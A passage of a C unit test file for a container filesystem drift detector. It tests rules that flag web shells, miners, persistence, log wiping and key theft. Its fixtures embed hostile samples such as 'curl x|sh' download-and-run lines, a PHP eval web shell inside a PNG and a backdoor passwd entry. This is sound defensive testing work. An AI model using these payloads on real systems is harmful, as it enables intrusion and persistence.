	{"application-log", ADD("app/logs/app.log.1", TEXT), ADD("app/app.log", PROGRAM), "log",
	 "log"},
	{"application-log", ADD("tmp/app.log", TEXT), ADD("tmp/app.log", TEXT), "log", "<?php "},
	{"postgresql-data", ADD("var/lib/postgresql/data/base/1/112", REG(0600, .uid = 70)),
	 ADD("var/lib/postgresql/data/base/1/112", REG(0600)), "\2\1", "\2\1"},
	{"postgresql-data", ADD("var/lib/postgresql/data/base", E(S_IFDIR, 0700, .uid = 70)),
	 ADD("var/lib/postgresql/data/x", REG(0600, .uid = 70)), NULL, "\177ELF"},
	{"postgresql-data", ADD("var/lib/postgresql/data/base/1/112", REG(0600, .uid = 70)),
	 ADD("var/lib/postgresql/data/base/1/112", REG(0600, .uid = 70)), "\2\1", "import os"},
	{"postgresql-data", ADD("var/lib/postgresql/data/base/1/112", REG(0600, .uid = 70)),
	 ADD("var/lib/postgresql/x.py", REG(0600, .uid = 70)), "\2\1", "\2\1"},
	{"postgresql-text", ADD("var/lib/postgresql/data/PG_VERSION", REG(0600, .uid = 70)),
	 ADD("var/lib/postgresql/data/PG_VERSIONS", REG(0600, .uid = 70)), "15\n", "15\n"},
	{"postgresql-text", ADD("pgdata/postmaster.opts", REG(0600, .uid = 70)),
	 ADD("pgdata/postmaster.opts", REG(0600, .uid = 70)), "/usr/l", "#!/bin/sh"},
	{"postgresql-transactions",
	 MOD("var/lib/postgresql/data/pg_xact/0000", REG(0600, .uid = 70), REG(0600, .uid = 70)),
	 ADD("var/lib/postgresql/data/pg_xact/x.py", REG(0600, .uid = 70)), "@UUU", "@UUU"},
	{"postgresql-data", ADD("var/lib/postgresql/d", DIR_AT(1010, 0700, .uid = 70)),
	 ADD("var/lib/postgresql/d", DIR_AT(1010, 0700))},
	{"database-data", ADD("var/lib/redis/x", REG(0644, .uid = 9)),
	 ADD("var/lib/redis/x.js", REG(0644, .uid = 9)), "\1x", "\1x"},
	{"database-data", MOD("var/lib/redis/dump.rdb", REG(0644, .uid = 9), REG(0644, .uid = 9)),
	 ADD("var/lib/mysql/run", REG(0644, .uid = 9)), "REDIS\1", "curl x|sh"},
	{"database-text", ADD("var/lib/redis/appendonly.aof", REG(0644, .uid = 9)),
	 ADD("var/lib/mysql/.my", REG(0644, .uid = 9)), "*2\r\n$6", "x"},
	{"web-server-temp", ADD("var/cache/nginx/client_temp/01", REG(0600, .uid = 101)),
	 ADD("var/cache/nginx/client_temp/01", REG(0600, .uid = 101)), "a=1", "PK\3\4"},
	{"web-server-directory", ADD("var/cache/nginx/client_temp", E(S_IFDIR, 0700, .uid = 101)),
	 ADD("var/cache/nginx/.x", SUBDIR)},
	{"apt-cache", ADD("var/lib/apt/lists/deb.debian.org_x_InRelease", TEXT),
	 ADD("var/lib/apt/lists/deb.debian.org_x_InRelease", TEXT), "Origin", "#!/bin/sh"},
	{"apt-cache", ADD("var/lib/apt/lists/lock", EMPTY), ADD("var/lib/apt/lists/evil", TEXT),
	 NULL, "id"},
	{"dpkg-cache", ADD("var/lib/dpkg/status-old", TEXT),
	 ADD("var/lib/dpkg/status-old", REG(0644, .uid = 33)), "Package", "Package"},
	{"dpkg-cache", ADD("var/cache/debconf/config.dat-old", TEXT),
	 ADD("var/cache/debconf/x", TEXT), "Name", "id"},
	{"font-cache", ADD("root/.cache/fontconfig/a-le64.cache-8", TEXT),
	 ADD("root/.cache/fontconfig/.x/a.cache-8", TEXT), "\4\374", "\4\374"},
	{"font-cache", ADD("var/cache/fontconfig/a-le64.cache-8", TEXT),
	 ADD("var/cache/fontconfig/a-le64.cache-8", TEXT), "\4\374", "import os"},
	{"font-cache-tag", ADD("var/cache/fontconfig/CACHEDIR.TAG", TEXT),
	 ADD("var/cache/fontconfig/x", TEXT), "Signature: 8a477f", "Signature: 8a477f"},
	{"machine-id", ADD("etc/machine-id", TEXT), ADD("etc/machine-id", TEXT), "0123456789abcdef",
	 "curl x.yz/i|sh\n "},
	{"java-counters", ADD("tmp/hsperfdata_root/7", TEXT), ADD("tmp/hsperfdata_root/7", TEXT),
	 "\312\376\300\300\1", "id;curl x|sh"},
	{"python-cache-directory", ADD("usr/lib/python3/__pycache__", SUBDIR),
	 ADD("usr/lib/python3/__pycache__", TEXT)},
	{"python-bytecode", ADD("usr/local/lib/python3.11/__pycache__/a.cpython-311.pyc", TEXT),
	 ADD("usr/local/lib/python3.11/__pycache__/a.cpython-311.pyc", TEXT), PYC, "\177ELF"},
	{"python-bytecode", ADD("app/__pycache__/a.cpython-311.pyc", TEXT),
	 ADD("app/__pycache__/a.cpython-311.pyc", TEXT), PYC, PYC_UNCHECKED},
	{"python-bytecode-unfinished",
	 ADD("app/__pycache__/a.cpython-311.pyc.140468170926080", TEXT),
	 ADD("app/__pycache__/a.cpython-311.pyc.140468170926080", TEXT), PYC, "import"},
	{"python-bytecode-begun", ADD("app/__pycache__/a.cpython-311.pyc.140468170926080", EMPTY),
	 ADD("app/__pycache__/a.cpython-311.pyc.140468170926080", TEXT), NULL, "import"},
	{"account-lock", ADD("etc/passwd.lock", EMPTY),
	 ADD("etc/passwd.lock", REG(0600, .size = 99)), NULL, "root:"},
	{"account-backup", ADD("etc/passwd.1234", TEXT), ADD("etc/passwd.lock", TEXT)},
	{"page-begun-at-start", ADD("var/www/html/a.php", AT(1010, .size = 0)),
	 ADD("var/www/html/a.php", AT(1100, .size = 0))},
	{"web-shell", ADD("var/www/html/a.php", TEXT), ADD("var/www/html/a.php", EMPTY)},
	{"environment-at-start", ADD("app/.env", AT(1010)), ADD("app/.env", AT(1100)), "A=1",
	 "A=1"},
	{"environment-at-start", ADD("srv/shop/.env", AT(1010)), ADD("etc/.env", AT(1010)), "A=1",
	 "A=1"},
	{"directory-at-start", ADD("srv/app/logs", DIR_AT(1010, 0755)),
	 ADD("srv/app/logs", DIR_AT(1100, 0755))},
	{"directory-at-start", ADD("tmp/tmpx1", DIR_AT(1010, 0700)),
	 ADD("tmp/tmpx1", DIR_AT(1010, 0777))},
	{"directory-at-start", ADD("etc/tomcat10/Catalina/localhost", DIR_AT(1010, 0750)),
	 ADD("etc/a/b/c/d/e", DIR_AT(1010, 0750))},
	/* the first minute: data and directories, never code, keys that people own, or system
	   places */
	{"directory-at-start", ADD("prometheus", DIR_AT(1010, 0755)),
	 ADD("bin", DIR_AT(1010, 0755))},
	{"directory-at-start", ADD("ledger/member/wal", DIR_AT(1010, 0700)),
	 ADD("usr/lib/python3/x", DIR_AT(1010, 0755))},
	{"cache-directory-at-start", ADD("root/.cache/pip", DIR_AT(1010, 0755)),
	 ADD("root/.ssh", DIR_AT(1010, 0700))},
	{"cache-directory-at-start", ADD("home/app/.config/matplotlib", DIR_AT(1010, 0755)),
	 ADD("home/app/.config/autostart", DIR_AT(1010, 0755))},
	{"cache-at-start", ADD("root/.cache/x/fontlist.json", AT(1010)),
	 ADD("root/.cache/x/fontlist.json", AT(1100)), "{}", "{}"},
	{"cache-at-start", ADD("root/.config/configstore/a.json", AT(1010)),
	 ADD("root/.config/configstore/a.js", AT(1010)), "{}", "{}"},
	{"cache-at-start", ADD("root/.npm/_cacache/index-v5/a", AT(1010)),
	 ADD("root/.npm/_cacache/a", AT(1010)), "x", "\177ELF"},
	{"cache-at-start", ADD("root/.cache/a", AT(1010)), ADD("root/.cache/.a", AT(1010)), "x",
	 "x"},
	{"data-at-start", ADD("etcd-data/member/snap/db", AT(1010)),
	 ADD("etcd-data/member/snap/db", AT(1100)), "\1", "\1"},
	{"data-at-start", ADD("redis/appendonlydir/a.aof", AT(1010)),
	 ADD("redis/appendonlydir/a.aof", AT(1010)), "REDIS", "\177ELF"},
	{"data-at-start", ADD("app/media/a.png", AT(1010)), ADD("app/media/a.php", AT(1010)), "x",
	 "x"},
	{"data-at-start", ADD("srv/a", AT(1010)), ADD("srv/a", AT(1010)), "x", "#!/bin/sh"},
	{"data-at-start", ADD("srv/a", AT(1010)), ADD("srv/a", AT(1010)), "x", "PK\3\4"},
	{"data-at-start", ADD("srv/a", AT(1010)), ADD("srv/a", AT(1010)), "x", "<?php "},
	{"data-at-start", ADD("srv/a", AT(1010)),
	 ADD("srv/a", AT(1010), .signals = SL_SIGNAL_SERVER_CODE), "x", "x"},
	{"data-at-start", ADD("srv/a", AT(1010)),
	 ADD("srv/a", AT(1010), .signals = SL_SIGNAL_MAPPED), "x", "x"},
	{"data-at-start", ADD("srv/a", AT(1010)), ADD("srv/.a", AT(1010)), "x", "x"},
	{"data-at-start", ADD("srv/a", AT(1010)), ADD("usr/lib/a", AT(1010)), "x", "x"},
	{"data-at-start", ADD("srv/a", AT(1010)), ADD("root/a", AT(1010)), "x", "x"},
	{"data-at-start", ADD("srv/a", AT(1010)), ADD("var/www/html/a", AT(1010)), "x", "x"},
	{"data-at-start", ADD("srv/a", AT(1010)), ADD("var/spool/cron/a", AT(1010)), "x", "x"},
	{"data-at-start", ADD("srv/a", AT(1010)), ADD("opt/x/bin/a", AT(1010)), "x", "x"},
	{"data-at-start", ADD("srv/a", AT(1010)), ADD("srv/a/run", AT(1010)), "x", "x"},
	{"data-at-start", ADD("srv/a", AT(1010)), MOD("srv/a", TEXT, AT(1010)), "x", "x"},
	{"static-at-start", ADD("app/static/admin/js/a.js", AT(1010)),
	 ADD("app/src/a.js", AT(1010)), "var a", "var a"},
	{"static-at-start", ADD("app/static/a.js", AT(1010)), ADD("app/static/a.js", AT(1100)),
	 "var a", "var a"},
	{"page-settings-at-start", ADD("usr/share/nginx/html/env-config.js", AT(1010)),
	 ADD("usr/share/nginx/html/env-config.js", AT(1100)), "window", "window"},
	{"page-settings-at-start", ADD("var/www/html/config.json", AT(1010)),
	 ADD("var/www/html/jquery.js", AT(1010)), "{", "{"},
	{"database-data-of-root", ADD("etcd-data/member/wal/0.wal", TEXT),
	 ADD("etcd-data/member/wal/0.wal", PROGRAM), "\1", "\1"},
	{"database-data-of-root", MOD("prometheus/queries.active", TEXT, TEXT),
	 ADD("etcd-data/member/x.py", TEXT), "\1", "\1"},
	{"database-data", MOD("prometheus/wal/0", REG(0644, .uid = 9), REG(0644, .uid = 9)),
	 ADD("prometheus/x.sh", REG(0644, .uid = 9)), "\1", "\1"},
	{"key-at-start", ADD("etc/nginx/ssl/tls.key", AT(1010)),
	 ADD("etc/nginx/ssl/tls.key", AT(1100)), "-----BEGIN PRIVA", "-----BEGIN PRIVA"},
	{"key-at-start", ADD("etc/ssh/ssh_host_rsa_key", AT(1010)),
	 ADD("home/web/.ssh/id.key", AT(1010)), "-----BEGIN OPENS", "-----BEGIN OPENS"},
	{"key-at-start", ADD("config/caddy/root.key", AT(1010)), ADD("tmp/root.key", AT(1010)),
	 "-----BEGIN EC PR", "-----BEGIN EC PR"},
	{"private-key-copied", ADD("tmp/root.key", AT(1010)), ADD("srv/root.key", AT(1010)),
	 "-----BEGIN EC PR", "-----BEGIN EC PR"},
	{"database-password", ADD("root/.my.cnf", TEXT), ADD("root/.my.cnf", AT(1010))},
	{"database-password-at-start", ADD("root/.my.cnf", AT(1010)), ADD("root/.my.cnf", AT(1100)),
	 "[client]", "[client]"},
	{"database-password-at-start", ADD("root/.pgpass", AT(1010)), ADD("root/.netrc", AT(1010)),
	 "a:5432", "a:5432"},
	{"temp-by-name", ADD("tmp/tmpab12cd34", TEXT), ADD("tmp/tmpab12cd345", TEXT), "x", "x"},
	{"temp-by-name", ADD("tmp/tmp.ab12cd34ef", TEXT), ADD("tmp/tmpab12cd34", PROGRAM), "x",
	 "x"},
	{"temp-by-name", ADD("tmp/phpAb12cd", TEXT), ADD("tmp/phpAb12cd", TEXT), "x", "<?php "},
	{"temp-by-name", ADD("tmp/tmpab12cd34", SUBDIR), ADD("tmp/tmpab12.php", TEXT), NULL, "x"},
	{"temp-by-name", ADD("tmp/tmpab12cd34/a", TEXT), ADD("tmp/tmpab12cd34/a.sh", TEXT), "x",
	 "x"},
	{"temp-by-name", ADD("tmp/tmpab12cd34", TEXT),
	 ADD("tmp/tmpab12cd34", REG(0644, .size = 2 << 20)), "x", "x"},
	{"php-session", ADD("var/lib/php/sessions/sess_a", REG(0600, .uid = 33)),
	 ADD("var/lib/php/sessions/sess_a", REG(0600, .uid = 33)), "a|i:1", "<?php "},
	{"php-session", ADD("tmp/sess_a", REG(0600, .uid = 33)),
	 ADD("tmp/sess_a", REG(0600, .uid = 33), CODE), "a|i:1", "a|s:9"},
	{"php-session", ADD("tmp/sess_a", REG(0600, .uid = 33)), ADD("tmp/sess_a", REG(0600)),
	 "a|i:1", "a|i:1"},
	{"rotation-state", MOD("var/lib/logrotate/status", TEXT, TEXT),
	 ADD("var/lib/logrotate/status.sh", TEXT), "logrotate", "logrotate"},
	{"message-store", ADD("var/lib/rabbitmq/mnesia/a/b/.vhost", REG(0644, .uid = 9)),
	 ADD("var/lib/rabbitmq/mnesia/a/b/.vhost", REG(0644)), "/", "/"},
	{"cluster-cookie-at-start",
	 ADD("var/lib/rabbitmq/.erlang.cookie",
	     REG(0400, .uid = 9, .fields = SL_ENTRY_CTIME, .ctime = {T0 + 1010, 0})),
	 ADD("var/lib/rabbitmq/.erlang.cookie",
	     REG(0400, .uid = 9, .fields = SL_ENTRY_CTIME, .ctime = {T0 + 1100, 0})),
	 "ABC", "ABC"},
	{"supervision-at-start", ADD("run/service/.s6-svscan", DIR_AT(1010, 0700)),
	 ADD("run/service/.s6-svscan", DIR_AT(1100, 0700))},
	{"supervision-at-start", ADD("srv/s/.s6-svscan/lock", AT(1010, .size = 0)),
	 ADD("srv/s/.s6-svscan/finish", AT(1010)), "", ""},
	{"database-version", ADD("var/lib/mysql/mysql_upgrade_info", TEXT),
	 ADD("var/lib/mysql/mysql_upgrade_info", PROGRAM), "10.11", "10.11"},
	{"php-settings", ADD("etc/php/8.2/cli/conf.d/9.ini", TEXT),
	 ADD("etc/php/8.2/cli/conf.d/9.ini", AT(1010))},
	{"interpreter-config", ADD("root/.npmrc", AT(1010)), ADD("etc/php/8.2/x.ini", TEXT)},
	{"hidden-name", ADD("run/s/.s6-svscan2", AT(1010)), ADD("run/s/.s6-svscan", SUBDIR)},
	{"temp-marker", ADD("run/crond.reboot", EMPTY), ADD("run/x.sh", EMPTY)},
	{"directory-at-start", ADD("etc/shop", DIR_AT(1010, 0755)),
	 ADD("srv/.app", DIR_AT(1010, 0755))},
	{"temp-at-start", ADD("tmp/tmpx1", AT(1010)), ADD("tmp/tmpx1", AT(1100)), "x", "x"},
	{"temp-at-start", ADD("tmp/tmpx1", AT(1010)), ADD("tmp/x.py", AT(1010)), "x", "x"},
	{"temp-at-start", ADD("tmp/tmpx1", AT(1010)), ADD("tmp/.tmpx1", AT(1010)), "x", "x"},
	{"temp-at-start", ADD("tmp/tmpx1", AT(1010)), ADD("tmp/tmpx1", AT(1010)), "\1", "\177ELF"},
	{"temp-marker", ADD("tmp/healthy", EMPTY), ADD("tmp/healthy", TEXT), NULL, "x"},
	{"temp-marker", ADD("tmp/healthy", EMPTY), ADD("tmp/healthy", REG(0755, .size = 0))},
	{"application-database", ADD("srv/app/app.sqlite3", TEXT), ADD("srv/app/app.sqlite3", TEXT),
	 "SQLite format 3", "\177ELF"},
	{"application-database", ADD("app/app.db-wal", TEXT), ADD("var/lib/dpkg/x.db", TEXT), "\1",
	 "\1"},
	{"program-redirected", ADD("etc/alternatives/awk", SYMLINK),
	 ADD("etc/alternatives/README", TEXT)},
	{"program-redirected", MOD("etc/alternatives/awk", SYMLINK, SYMLINK),
	 DEL("etc/alternatives/awk", SYMLINK)},
	{"library-redirected", MOD("usr/lib/x/libssl.so.3", SYMLINK, SYMLINK),
	 ADD("usr/lib/x/libssl.so", SYMLINK)},
	{"library-redirected", TYPE("usr/lib/x/libc.so.6", TEXT, SYMLINK),
	 TYPE("srv/libc.so.6", TEXT, SYMLINK)},
	{"directory-redirected", TYPE("etc/cron.d", SUBDIR, SYMLINK),
	 TYPE("srv/data", SUBDIR, SYMLINK)},
	{"directory-redirected", TYPE("bin", SUBDIR, SYMLINK), TYPE("etc/cron.d", TEXT, SYMLINK)},
	{"library-settings", MOD("etc/ssl/openssl.cnf", TEXT, TEXT),
	 MOD("etc/ssl/x.cnf", TEXT, TEXT)},
	{"config-at-start", MOD("etc/nginx/conf.d/default.conf", TEXT, AT(1010)),
	 MOD("etc/nginx/conf.d/default.conf", TEXT, AT(1100)), "server {", "server {"},
	{"config-at-start", ADD("srv/app/settings.ini", AT(5060)),
	 ADD("etc/cron.d/x.conf", AT(5000)), "[a]", "[a]"},
	{"loader-config", ADD("etc/ld.so.conf.d/x.conf", TEXT), MOD("etc/ld.so.cache", TEXT, TEXT)},
	{"cron", ADD("etc/cron.d/x", TEXT), ADD("etc/cron.d", SUBDIR)},
	{"cron", ADD("var/spool/cron/crontabs/root", TEXT), ADD("var/spool/mail/root", TEXT)},
	{"shell-startup", MOD("root/.bashrc", TEXT, TEXT), ADD("root/.bash_history", TEXT)},
	{"shell-startup", ADD("etc/profile.d/x.sh", TEXT),
	 META("etc/profile", SL_FIELD_MTIME, TEXT, TEXT)},
	{"service", ADD("etc/systemd/system/x.service", TEXT), ADD("etc/systemd/system", SUBDIR)},
	{"init", MOD("etc/rc.local", TEXT, TEXT), MOD("etc/rcS", TEXT, TEXT)},
	{"init", ADD("etc/rc5.d/S01x", SYMLINK), ADD("etc/rcXX.d/S01x", SYMLINK)},
	{"event-hook", ADD("etc/update-motd.d/99-x", TEXT), ADD("etc/motd", TEXT)},
	{"event-hook", ADD("srv/app/.git/hooks/pre-commit", TEXT),
	 ADD("srv/app/.git/hooks/pre-commit.sample", TEXT)},
	{"kernel-module", ADD("root/evil.ko", TEXT), ADD("root/evil.kod", TEXT)},
	{"web-shell", ADD("var/www/html/up/x.php", TEXT), ADD("var/www/html/x.css", TEXT)},
	{"web-shell", MOD("opt/tomcat/webapps/ROOT/x.jsp", TEXT, TEXT), ADD("opt/x.jsp", TEXT)},
	{"miner", ADD("srv/xmrig", TEXT), ADD("srv/xmrigger", TEXT)},
	{"deceptive-name", ADD("srv/...", SUBDIR), ADD("srv/..x", SUBDIR)},
	{"deceptive-name", ADD("srv/a\xe2\x80\x8b", TEXT), ADD("srv/\xc3\xa9", TEXT)},
	{"deceptive-name", ADD("srv/ ls", TEXT), ADD("srv/l s", TEXT)},
	{"deceptive-name", ADD("srv/a\nb", TEXT), MOD("srv/a\nb", TEXT, TEXT)},
	{"deceptive-name", ADD("srv/.wh.x", TEXT), ADD("srv/x.wh.", TEXT)},
	{"hidden-name", ADD("usr/lib/.x", SUBDIR), ADD("root/.cache", SUBDIR)},
	{"hidden-name", ADD("tmp/.x", TEXT), ADD("tmp/.X11-unix", SUBDIR)},
	{"forged-mtime",
	 {.kind = SL_CHANGE_MODIFIED,
	  .fields = SL_FIELD_CONTENT,
	  .signals = SL_SIGNAL_FORGED_MTIME,
	  .path = PATH("srv/x"),
	  .before = TEXT,
	  .after = TEXT},
	 MOD("srv/x", TEXT, TEXT)},
	{"under-mount", ADD("data/x", EMPTY), ADD("data", SUBDIR)},
	{"under-mount", ADD("data", TEXT), ADD("database/x", TEXT)},
	{"device-node", ADD("srv/null", CHAR_DEVICE),
	 META("srv/null", SL_FIELD_MODE, CHAR_DEVICE, CHAR_DEVICE)},
	{"block-device", ADD("srv/sda", BLOCK_DEVICE), ADD("srv/null", CHAR_DEVICE)},
	{"file-in-dev", ADD("dev/x", TEXT), ADD("dev/shm/x", TEXT)},
	{"stray-whiteout",
	 {.kind = SL_CHANGE_DELETED, .signals = SL_SIGNAL_STRAY_WHITEOUT, .path = PATH("a")},
	 DEL("a", TEXT)},
	{"directory-replaced",
	 {.kind = SL_CHANGE_METADATA,
	  .fields = SL_FIELD_MODE,
	  .signals = SL_SIGNAL_OPAQUE,
	  .path = PATH("a"),
	  .before = SUBDIR,
	  .after = SUBDIR},
	 META("a", SL_FIELD_MODE, SUBDIR, SUBDIR)},
	{"deleted-with-directory",
	 {.kind = SL_CHANGE_DELETED,
	  .signals = SL_SIGNAL_OPAQUE,
	  .path = PATH("a/b"),
	  .before = TEXT},
	 DEL("a/b", TEXT)},
	{"log-deleted", DEL("var/log/auth.log", TEXT), DEL("var/log/apt", SUBDIR)},
	{"log-emptied", MOD("var/log/wtmp", TEXT, EMPTY), MOD("var/log/wtmp", EMPTY, TEXT)},
	{"log-emptied", TYPE("var/log/wtmp", TEXT, SYMLINK), MOD("var/logs/wtmp", TEXT, EMPTY)},
	{"history-deleted", DEL("root/.bash_history", TEXT), DEL("root/bash_history", TEXT)},
	{"history-emptied", MOD("root/.bash_history", TEXT, EMPTY),
	 ADD("root/.bash_history", TEXT)},
	{"history-emptied", ADD("home/a/.bash_history", SYMLINK),
	 ADD("home/a/.history.d", SYMLINK)},
	{"trust-store", ADD("etc/ssl/certs/evil.pem", TEXT), ADD("etc/ssl/openssl.cnf", TEXT)},
	{"name-resolution", MOD("etc/hosts", TEXT, TEXT), ADD("etc/hosts", EMPTY)},
	{"defence-config", MOD("etc/audit/auditd.conf", TEXT, TEXT), ADD("etc/audit", SUBDIR)},
};

static struct ruleset defaults;

static void judge(struct sl_finding *f, const struct sl_change *change, const char *head)
{
	struct sl_change c = *change;
	fact_set facts;

	*f = (struct sl_finding){0};
	if (head != NULL) {
		size_t len = head[0] == '\xa7' ? 16 : strlen(head);

		c.head_len = (uint8_t)(len < sizeof(c.head) ? len : sizeof(c.head));
		memcpy(c.head, head, c.head_len);
	}
	facts = facts_of(&c, &container) | change->signals; /* as a mark adds them */
	c.signals = (uint64_t)facts;
	rules_apply(&defaults, f, &c, facts);
}

static bool is_named(const char *id, const struct sl_change *change, const char *head)
{
	struct sl_finding f;

	judge(&f, change, head);
	for (size_t i = 0; i < f.rule_count; i++)
		if (strcmp(f.rules[i], id) == 0)
			return true;
	return false;
}

static void a_rule_names_what_it_should_and_nothing_else(void **state)
{
	size_t wrong = 0;

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		bool misses = !is_named(rows[i].rule, &rows[i].yes, rows[i].yes_head);
		bool invents = is_named(rows[i].rule, &rows[i].no, rows[i].no_head);

		if (misses)
			print_error("%s does not name %s\n", rows[i].rule, rows[i].yes.path.data);
		if (invents)
			print_error("%s names %s\n", rows[i].rule, rows[i].no.path.data);
		wrong += misses + invents;
	}
	assert_int_equal(wrong, 0);
}

static bool has_row(const char *id)
{
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++)
		if (strcmp(rows[i].rule, id) == 0)
			return true;
	return false;
}

static void every_rule_has_rows_a_sentence_and_techniques(void **state)
{
	(void)state;
	for (size_t i = 0; i < rules_count; i++) {
		const struct rule *r = &rules_table[i];

		if (!has_row(r->id))
			fail_msg("rule %s has no row in this test", r->id);
		assert_true(r->attack[0] != NULL || r->effect == RULE_EXPLAINS);
		for (size_t t = 0; t < RULE_ATTACK_MAX && r->attack[t] != NULL; t++) {
			assert_int_equal(r->attack[t][0], 'T');
			assert_true(strlen(r->attack[t]) == 5 || strlen(r->attack[t]) == 9);
		}
		assert_true(strlen(r->reason) > 10);
		assert_int_not_equal(r->kinds, 0);
		assert_string_equal(r->attack_version, "18");
		assert_int_equal(r->severity == SL_SEVERITY_INFO, r->effect != RULE_RAISES);
		for (size_t j = 0; j < i; j++)
			assert_string_not_equal(r->id, rules_table[j].id);
	}
}

/* Severities and techniques as a whole: the highest rule wins, techniques are sorted and unique. */
static const struct drift_case severities[] = {
	{"a thousand chowns alike are information",
	 true,
	 {FILE_WITH("srv/a", "1")},
	 {FILE_WITH("srv/a", "1", .uid = 33)},
	 "metadata srv/a info\n"},
	{"the owner of a program is a right",
	 true,
	 {FILE_WITH("srv/a", "1", .mode = S_IFREG | 0755)},
	 {FILE_WITH("srv/a", "1", .mode = S_IFREG | 0755, .uid = 33)},
	 "metadata srv/a low [executable]\n"},
	{"a setuid shell in a directory for temporary files",
	 true,
	 {DIRECTORY("tmp")},
	 {DIRECTORY("tmp"), FILE_WITH("tmp/.sh", "\177ELF...", .mode = S_IFREG | 04755)},
	 "added tmp/.sh critical [setuid,hidden-name,elf,executable,in-temp] "
	 "{setuid-gained,hidden-program,temp-program,hidden-name,program-new}\n"},
	{"a backdoored account file",
	 true,
	 {FILE_WITH("etc/passwd", "root:x\n")},
	 {FILE_WITH("etc/passwd", "root:x\nevil::0\n", .mtime = {9, 0})},
	 "modified etc/passwd critical {accounts}\n"},
	{"a miner without a name",
	 true,
	 {DIRECTORY("opt")},
	 {DIRECTORY("opt"),
	  FILE_WITH("opt/agent", "\177ELF... stratum+tcp://pool:1 ...", .mode = S_IFREG | 0755)},
	 "added opt/agent critical [elf,executable,miner] "
	 "{miner-program,miner-settings,program-new}\n"},
	{"a picture that runs what it is sent",
	 true,
	 {DIRECTORY("app")},
	 {DIRECTORY("app"), FILE_WITH("app/logo.png", "\211PNG\r\n<?php eval($_POST['x']);")},
	 "added app/logo.png critical [server-code,runs-input] "
	 "{web-shell-code,picture-with-code}\n"},
	{"a trojaned program that pretends to be old",
	 true,
	 {FILE_WITH("usr/bin/ls", "\177ELF1", .mode = S_IFREG | 0755)},
	 {FILE_WITH("usr/bin/ls", "\177ELF2", .mode = S_IFREG | 0755)},
	 "modified usr/bin/ls critical [forged-mtime,elf,executable,in-path] "
	 "{system-program-changed,forged-mtime,program-changed}\n"},
	{"a log that grew",
	 true,
	 {FILE_WITH("var/log/auth.log", "failed\n")},
	 {FILE_WITH("var/log/auth.log", "failed\nagain\n", .mtime = {9, 0})},
	 "modified var/log/auth.log info {log-growth} (rule)\n"},
	{"a log whose lines are others, in the same length",
	 true,
	 {FILE_WITH("var/log/auth.log", "failed\n")},
	 {FILE_WITH("var/log/auth.log", "passed\n", .mtime = {9, 0})},
	 "modified var/log/auth.log high [rewritten] {log-rewritten}\n"},
	{"a log that was emptied and has grown again",
	 true,
	 {FILE_WITH("var/log/auth.log", "failed\n")},
	 {FILE_WITH("var/log/auth.log", "nothing to see, much of it\n", .mtime = {9, 0})},
	 "modified var/log/auth.log high [rewritten] {log-rewritten}\n"},
	{"a table of log-ins is written in place",
	 true,
	 {FILE_WITH("var/log/lastlog", "abc\n")},
	 {FILE_WITH("var/log/lastlog", "abd\n", .mtime = {9, 0})},
	 "modified var/log/lastlog info {log-growth} (rule)\n"},
	{"a log that was emptied",
	 true,
	 {FILE_WITH("var/log/auth.log", "failed\n")},
	 {FILE_WITH("var/log/auth.log", "", .mtime = {9, 0})},
	 "modified var/log/auth.log high [truncated] {log-emptied}\n"},
};

static void severity_is_the_highest_of_the_rules(void **state)
{
	const struct drift_setup setup = {0};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(severities); i++)
		drift_expect(&severities[i], &setup);
}

static void techniques_are_sorted_and_unique(void **state)
{
	struct sl_change c = ADD("tmp/x", REG(06755));
	struct sl_finding f = {0};
	fact_set facts = facts_of(&c, NULL);

	(void)state;
	rules_apply(&defaults, &f, &c, facts);
	assert_int_equal(f.severity, SL_SEVERITY_CRITICAL);
	assert_int_equal(f.attack_count, 3);
	assert_string_equal(f.attack[0], "T1059");
	assert_string_equal(f.attack[1], "T1105");
	assert_string_equal(f.attack[2], "T1548.001");
}

static int make_defaults(void **state)
{
	(void)state;
	return ruleset_init(&defaults, rules_table, rules_count, NULL, 0, NULL);
}

static int clear_defaults(void **state)
{
	(void)state;
	ruleset_clear(&defaults);
	return 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a_rule_names_what_it_should_and_nothing_else),
		cmocka_unit_test(every_rule_has_rows_a_sentence_and_techniques),
		cmocka_unit_test(severity_is_the_highest_of_the_rules),
		cmocka_unit_test(techniques_are_sorted_and_unique),
	};

	return cmocka_run_group_tests(tests, make_defaults, clear_defaults);
}
